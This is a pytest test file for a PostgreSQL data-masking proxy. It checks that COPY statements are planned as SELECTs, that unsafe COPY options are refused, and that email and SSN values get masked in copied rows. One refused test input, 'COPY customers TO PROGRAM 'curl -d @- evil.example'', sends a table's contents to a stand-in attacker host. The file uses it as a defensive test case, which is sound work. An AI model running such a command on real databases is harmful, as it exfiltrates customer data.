"""COPY in masked mode planned as the SELECT it runs: which COPY statements and options run,
the column types its rows are masked by, and the flow that accepts CopyOutResponse, CopyData
and CopyDone only after a planned COPY TO STDOUT."""

from __future__ import annotations

import pytest

from bastion.masking.copyflow import CopyMismatch
from bastion.masking.copyplan import _as_select
from bastion.masking.copyrows import CopyError, CopyFormat, csv_format
from bastion.masking.flow import Flow, FlowError
from bastion.masking.lineage import Refused, only_statement
from tests.masking.test_session import session


def message(body: bytes) -> bytes:
    return b"d" + (len(body) + 4).to_bytes(4, "big") + body


@pytest.mark.parametrize(
    ("sql", "columns", "fmt"),
    [
        ("COPY customers (id, email) TO STDOUT", ["id", "email"], CopyFormat()),
        ("COPY (SELECT id, ssn FROM customers) TO STDOUT WITH (FORMAT csv, HEADER)",
         ["id", "ssn"], csv_format(header=True)),
        ("COPY (SELECT id FROM customers) TO STDOUT CSV HEADER DELIMITER ';' NULL 'none'",
         ["id"], csv_format(header=True, delimiter=b";", null=b"none")),
        ("COPY (SELECT id FROM customers) TO STDOUT (FORMAT csv, QUOTE '''', ESCAPE '\\',"
         " FORCE_QUOTE *, ENCODING 'UTF8')", ["id"],
         csv_format(quote=b"'", escape=b"\\")),
        ("COPY (SELECT id FROM customers) TO STDOUT (FORMAT binary)", ["id"],
         CopyFormat("binary")),
        ("COPY (SELECT id FROM customers) TO STDOUT (DELIMITER '|', HEADER false)", ["id"],
         CopyFormat(delimiter=b"|")),
        ("COPY (SELECT * FROM customer_contacts) TO STDOUT", ["id", "name", "email", "phone"],
         CopyFormat()),
    ],
)  # fmt: skip
def test_copy_to_stdout_is_planned_as_its_select(
    sql: str, columns: list[str], fmt: CopyFormat
) -> None:
    plan = session().plan(sql)
    assert [c.name for c in plan.columns or ()] == columns
    assert plan.copy == fmt


@pytest.mark.parametrize(
    ("sql", "why"),
    [
        ("COPY customers FROM STDIN", "only COPY [.][.][.] TO STDOUT"),
        ("COPY customers TO '/tmp/out.csv'", "only COPY [.][.][.] TO STDOUT"),
        ("COPY customers TO PROGRAM 'curl -d @- evil.example'", "only COPY [.][.][.] TO STDOUT"),
        ("COPY (SELECT id FROM customers) TO PROGRAM 'cat'", "only COPY [.][.][.] TO STDOUT"),
        ("COPY (SELECT lower(email) FROM customers) TO STDOUT", "sensitive"),
        ("COPY (SELECT id FROM customers WHERE ssn LIKE '1%') TO STDOUT", "sensitive"),
        ("COPY (DELETE FROM customers RETURNING id) TO STDOUT", "Delete .... is not allowed"),
        ("COPY (SELECT id FROM customers) TO STDOUT (FORMAT xml)", "format"),
        ("COPY (SELECT id FROM customers) TO STDOUT (FORCE_NOT_NULL (id))", "FORCE_NOT_NULL"),
        ("COPY (SELECT id FROM customers) TO STDOUT (FREEZE)", "FREEZE"),
        ("COPY (SELECT id FROM customers) TO STDOUT (ENCODING 'SJIS')", "ENCODING"),
        ("COPY (SELECT id FROM customers) TO STDOUT (HEADER match)", "HEADER"),
        ("COPY (SELECT id FROM customers) TO STDOUT (FORMAT csv, DELIMITER 'ab')", "one-byte"),
        ("COPY (SELECT id FROM customers) TO STDOUT (FORMAT csv, QUOTE ',')", "DELIMITER"),
        ("COPY (SELECT id FROM customers) TO STDOUT (FORMAT binary, NULL 'x')", "binary"),
        ("COPY (SELECT id FROM customers) TO STDOUT (DELIMITER '|', DELIMITER ',')", "twice"),
        # Text format: a NULL string a value can be written as is an equality oracle.
        ("COPY (SELECT ssn FROM customers) TO STDOUT (NULL '123-45-6789')", "NULL string"),
        ("COPY (SELECT ssn FROM customers) TO STDOUT (NULL '')", "NULL string"),
        ("COPY (SELECT ssn FROM customers) TO STDOUT (NULL '\\\\')", "NULL string"),
        ("COPY (SELECT ssn FROM customers) TO STDOUT (FORMAT csv, NULL 'é')", "NULL string"),
    ],
)
def test_what_stays_refused(sql: str, why: str) -> None:
    with pytest.raises(Refused, match=why):
        session().plan(sql)


def test_a_null_string_no_value_can_be_written_as_is_allowed() -> None:
    plan = session().plan("COPY (SELECT ssn FROM customers) TO STDOUT (NULL '\\x')")
    assert plan.copy == CopyFormat(null=b"\\x")


def _copying(sql: str, overall: int, width: int) -> Flow:
    f = Flow(session())
    f.query(sql)
    f.copy_out(overall, (overall,) * width, {})
    return f


def test_rows_are_masked_by_the_types_the_catalog_gives() -> None:
    f = _copying("COPY customers (id, name, email, ssn) TO STDOUT", 0, 4)
    assert f.copy is not None and f.copy.mask.masked == ["email", "ssn"]
    out = f.copy.run(message(b"4711\tJane Doe\tjane.doe@example.com\t123-45-6789\n"))
    assert out == message(b"4711\tJane Doe\tj*******@example.com\t***-**-6789\n")
    f.copy.finish()
    f.completed()
    f.ready()
    assert not f.queue and f.copy is None


def test_an_expression_is_scanned_as_text() -> None:
    f = _copying("COPY (SELECT id, 'mail ' || name AS n FROM customers) TO STDOUT", 0, 2)
    assert f.copy is not None
    assert f.copy.run(message(b"1\tmail jane@example.com\n")) == message(
        b"1\tmail j***@example.com\n"
    )  # only the match is masked
    assert list(f.copy.mask.fired()) == ["n"]


def test_copy_responses_only_after_a_planned_copy() -> None:
    f = Flow(session())
    f.query("SELECT id FROM customers")
    with pytest.raises(FlowError, match="no planned COPY"):
        f.copy_out(0, (0,), {})
    with pytest.raises(CopyMismatch):  # binary where text was planned
        _copying("COPY customers (id) TO STDOUT", 1, 1)
    with pytest.raises(CopyMismatch):  # a width the plan does not have
        _copying("COPY customers (id) TO STDOUT", 0, 2)
    f = _copying("COPY customers (id, ssn) TO STDOUT", 0, 2)
    with pytest.raises(FlowError, match="CopyDone"):
        f.completed()  # CommandComplete with no CopyDone
    assert f.copy is not None
    f.copy.finish()
    with pytest.raises(CopyError, match="after CopyDone"):
        f.copy.run(message(b"1\t2\n"))


def test_an_extended_protocol_copy() -> None:
    f = Flow(session())
    f.parse("", "COPY (SELECT id, email FROM customers) TO STDOUT (FORMAT binary)")
    f.bind("", "")
    assert f.execute("")  # undescribed: a Describe goes first, its NoData swallowed
    f.sync()
    f.acknowledged()
    f.acknowledged()
    f.no_data()  # the injected Describe of a COPY portal
    copy = f.copy_out(1, (1, 1), {})
    assert copy.mask.masked == ["email"]
    copy.run(message(b"PGCOPY\n\xff\r\n\x00" + bytes(8) + b"\xff\xff"))
    copy.finish()
    f.completed()
    f.ready()
    assert not f.queue


def test_a_portal_keeps_the_copy_it_was_bound_to() -> None:
    # The unnamed statement parsed again after Bind: the portal still runs the first COPY,
    # so its rows are masked by the first plan, not by the text parsed since.
    f = Flow(session())
    f.parse("", "COPY (SELECT ssn FROM customers) TO STDOUT")
    f.bind("p", "")
    f.parse("", "COPY (SELECT name FROM customers) TO STDOUT")
    f.execute("p")
    f.sync()
    for _ in range(3):
        f.acknowledged()
    f.no_data()
    copy = f.copy_out(0, (0,), {})
    assert copy.mask.masked == ["ssn"]
    assert copy.run(message(b"123-45-6789\n")) == message(b"***-**-6789\n")


def _without_locations(value: object) -> object:
    if isinstance(value, dict):
        return {k: _without_locations(v) for k, v in value.items() if k != "location"}
    if isinstance(value, list):
        return [_without_locations(v) for v in value]
    return value


@pytest.mark.parametrize(
    ("copy", "query"),
    [
        ("COPY customers TO STDOUT", 'SELECT * FROM ONLY "customers"'),
        ('COPY public."Odd ""t""" (id, "E") TO STDOUT',
         'SELECT "id", "E" FROM ONLY public."Odd ""t"""'),
    ],
)  # fmt: skip
def test_a_copied_table_is_planned_as_the_tree_the_grammar_gives_its_query(
    copy: str, query: str
) -> None:
    copy_node = only_statement(copy)[1]
    built = _as_select(copy_node["relation"], copy_node.get("attlist") or [])
    assert _without_locations(built) == _without_locations(only_statement(query)[1])
